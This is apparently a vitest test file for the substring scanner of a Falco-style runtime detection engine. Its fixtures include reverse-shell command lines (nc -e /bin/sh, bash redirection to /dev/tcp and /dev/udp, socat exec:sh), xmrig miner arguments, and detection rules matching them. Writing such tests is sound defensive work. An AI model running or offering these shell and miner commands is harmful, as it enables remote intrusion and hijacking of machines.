import { describe, expect, it } from 'vitest';
import { NOT_ASCII, compileSubstrings, type Needle } from '../../src/falco/substrings.js';
import { buildEvent } from '../support/events.js';
import { loadFalcoRules } from '../../src/falco/loader.js';
import { compileOne } from './support.js';

/** A small deterministic generator (mulberry32), so that a failure can be replayed. */
function random(seed: number): () => number {
  let a = seed;
  return () => {
    a = (a + 0x6d2b79f5) | 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

// Few letters, so that needles occur often, in both cases; and, now and then, characters whose
// lower case is special (İ lower-cases to two code units, the Kelvin sign to an ASCII k).
const ASCII = ['a', 'b', 'A', 'B', 'k', 'K', '-', ' '];
const OTHER = ['é', 'İ', '\u212a'];

function text(rnd: () => number, max: number): string {
  let s = '';
  const n = Math.floor(rnd() * (max + 1));
  const other = rnd() < 0.1;
  for (let i = 0; i < n; i++) {
    s +=
      other && rnd() < 0.3
        ? (OTHER[Math.floor(rnd() * OTHER.length)] as string)
        : (ASCII[Math.floor(rnd() * ASCII.length)] as string);
  }
  return s;
}

function naive(value: string, needles: readonly Needle[]): boolean {
  return needles.some((n) =>
    n.ignoreCase ? value.toLowerCase().includes(n.text.toLowerCase()) : value.includes(n.text),
  );
}

/**
 * What a caller of the scanner concludes for each group: the plain checks decide when unsure.
 * The value is fed in `pieces`, or as its words (`words`, split at spaces).
 */
function scanned(
  value: string,
  groups: readonly (readonly Needle[])[],
  pieces: readonly string[] | 'words' = [value],
): boolean[] {
  const scan = compileSubstrings(groups);
  let state = scan.start();
  if (pieces === 'words') {
    // As a command line is fed: its first word, then the others after a space.
    const [first, ...rest] = value.split(' ');
    state = scan.step(state, first ?? '');
    if (state >= 0) state = scan.words(state, ['unused', ...rest], 1, true);
  } else {
    for (const p of pieces) if (state >= 0) state = scan.step(state, p);
  }
  return groups.map((needles, g) => {
    const bit = 1 << g;
    if (state === NOT_ASCII) return naive(value, needles);
    expect(state).toBeGreaterThanOrEqual(0);
    if ((scan.anything & bit) !== 0 || (scan.matched & bit) !== 0) return true;
    if ((scan.unsure & bit) === 0) return false;
    return naive(value, needles);
  });
}

function split(rnd: () => number, value: string): string[] {
  const pieces: string[] = [];
  let i = 0;
  while (i < value.length) {
    const n = 1 + Math.floor(rnd() * 4);
    pieces.push(value.slice(i, i + n));
    i += n;
  }
  return pieces;
}

describe('compileSubstrings', () => {
  it('agrees with includes and toLowerCase().includes for each group, on random text and needles', () => {
    const rnd = random(20251128);
    for (let round = 0; round < 2000; round++) {
      const groups: Needle[][] = [];
      const count = 1 + Math.floor(rnd() * 3);
      for (let g = 0; g < count; g++) {
        const needles: Needle[] = [];
        const n = 1 + Math.floor(rnd() * 4);
        for (let i = 0; i < n; i++) needles.push({ text: text(rnd, 4), ignoreCase: rnd() < 0.5 });
        groups.push(needles);
      }
      for (let k = 0; k < 5; k++) {
        const value = text(rnd, 24);
        const expected = groups.map((needles) => naive(value, needles));
        expect(scanned(value, groups), JSON.stringify({ value, groups })).toEqual(expected);
        // Fed in pieces, the state carries across them.
        expect(scanned(value, groups, split(rnd, value))).toEqual(expected);
        expect(scanned(value, groups, 'words')).toEqual(expected);
      }
    }
  });

  it('is sure on ASCII text when no needle occurs or an icontains needle does', () => {
    const scan = compileSubstrings([
      [
        { text: 'stratum+tcp://', ignoreCase: true },
        { text: '--donate-level', ignoreCase: false },
      ],
      [{ text: '/dev/tcp/', ignoreCase: false }],
    ]);
    const run = (text: string) => {
      const state = scan.step(scan.start(), text);
      return { state, matched: scan.matched, unsure: scan.unsure };
    };
    expect(run('xmrig -o STRATUM+TCP://pool:3333')).toMatchObject({ matched: 1, unsure: 0 });
    expect(run('nginx -g daemon off;')).toMatchObject({ matched: 0, unsure: 0 });
    // A contains needle found up to case: only the plain check can tell.
    expect(run('xmrig --DONATE-level 1 > /dev/TCP/x')).toMatchObject({ matched: 0, unsure: 3 });
    expect(run('café').state).toBe(NOT_ASCII);
  });

  it('matches anything when a needle is empty', () => {
    expect(compileSubstrings([[], [{ text: '', ignoreCase: false }]]).anything).toBe(2);
    expect(scanned('', [[{ text: '', ignoreCase: true }]])).toEqual([true]);
  });
});

describe('an or of contains and icontains on one field', () => {
  const NEEDLES = ['-e', '/dev/TCP/', 'Stratum+tcp://', 'ab', ' -c', 'İx', 'k:'];

  function condition(needles: readonly Needle[], field: string): string {
    return needles
      .map((n) => `${field} ${n.ignoreCase ? 'icontains' : 'contains'} ${JSON.stringify(n.text)}`)
      .join(' or ');
  }

  it('fires as each check would on its own, for proc.cmdline, proc.args, proc.pcmdline and a plain field', () => {
    const rnd = random(7);
    const words = ['nc', '-e', '/bin/sh', '/dev/tcp/10.0.0.1/4444', 'STRATUM+TCP://x', 'a', 'b'];
    const word = () =>
      rnd() < 0.7 ? (words[Math.floor(rnd() * words.length)] as string) : text(rnd, 6);
    for (let round = 0; round < 60; round++) {
      const needles: Needle[] = [];
      const count = 2 + Math.floor(rnd() * 4);
      for (let i = 0; i < count; i++) {
        needles.push({
          text: NEEDLES[Math.floor(rnd() * NEEDLES.length)] as string,
          ignoreCase: rnd() < 0.5,
        });
      }
      for (const field of ['proc.cmdline', 'proc.args', 'proc.pcmdline', 'proc.exepath']) {
        const grouped = compileOne(`evt.type = execve and (${condition(needles, field)})`);
        const alone = needles.map((n) =>
          compileOne(`evt.type = execve and ${condition([n], field)}`),
        );
        for (let k = 0; k < 10; k++) {
          const args = Array.from({ length: Math.floor(rnd() * 5) }, word);
          const process = {
            name: rnd() < 0.1 ? '' : word(),
            exe: word(),
            args,
            ancestors: [{ name: word(), args: [word(), word(), word()] }],
          };
          const event = buildEvent({ process_exec: { process } });
          const expected = alone.some((r) => r.matches(event));
          expect(grouped.matches(event), JSON.stringify({ field, needles, process })).toBe(
            expected,
          );
          expect(grouped.matcherFor?.('process_exec')?.(event)).toBe(expected);
        }
      }
    }
  });

  it('keeps the alternatives around the run where they were', () => {
    const rule = compileOne(
      'evt.type = execve and (proc.name = nc or proc.cmdline contains "/dev/tcp/" or proc.cmdline icontains "/DEV/UDP/" or proc.exepath = /bin/x)',
    );
    const ev = (name: string, args: string[], exe = '/usr/bin/y') =>
      buildEvent({ process_exec: { process: { name, exe, args } } });
    expect(rule.matches(ev('nc', ['nc']))).toBe(true);
    expect(rule.matches(ev('bash', ['bash', '-c', 'exec 3<>/dev/udp/1.2.3.4/53']))).toBe(true);
    expect(rule.matches(ev('bash', ['bash', '-c', 'cat < /dev/tcp/1.2.3.4/80']))).toBe(true);
    expect(rule.matches(ev('bash', ['bash', '-c', 'echo'], '/bin/x'))).toBe(true);
    expect(rule.matches(ev('bash', ['bash', '-c', 'echo /dev/TCP/']))).toBe(false);
  });

  it('shares one pass between the rules of a load that search one field, each with its own result', () => {
    const rule = (name: string, condition: string) =>
      `- rule: ${name}\n  desc: d\n  condition: ${JSON.stringify(condition)}\n  output: o\n  priority: WARNING\n`;
    const miner =
      'evt.type = execve and (proc.cmdline icontains "stratum+tcp://" or proc.cmdline contains "--donate-level")';
    const shell =
      'evt.type = execve and (proc.cmdline contains "/dev/tcp/" or proc.cmdline contains "/dev/udp/")';
    const args = 'evt.type = execve and (proc.args contains "-e" or proc.args icontains "EXEC:")';
    const together = loadFalcoRules([
      { path: 'r.yaml', text: rule('miner', miner) + rule('shell', shell) + rule('args', args) },
    ]).rules;
    const apart = [miner, shell, args].map((c) => compileOne(c));
    expect(together).toHaveLength(3);
    const lines = [
      ['xmrig', '-o', 'STRATUM+TCP://pool:3333'],
      ['bash', '-c', 'cat < /dev/tcp/1.2.3.4/80'],
      ['xmrig', '--donate-level', '1', '/dev/udp/x'],
      ['xmrig', '--DONATE-LEVEL', '1'],
      ['socat', 'tcp:1.2.3.4:9', 'exec:sh'],
      ['nc', '-e', '/bin/sh'],
      ['café', '/dev/tcp/'],
      ['nginx', '-g', 'daemon off;'],
    ];
    for (const argv of lines) {
      const event = buildEvent({
        process_exec: { process: { name: argv[0] as string, args: argv } },
      });
      expect(
        together.map((r) => r.matcherFor?.('process_exec')?.(event)),
        argv.join(' '),
      ).toEqual(apart.map((r) => r.matches(event)));
    }
  });
});
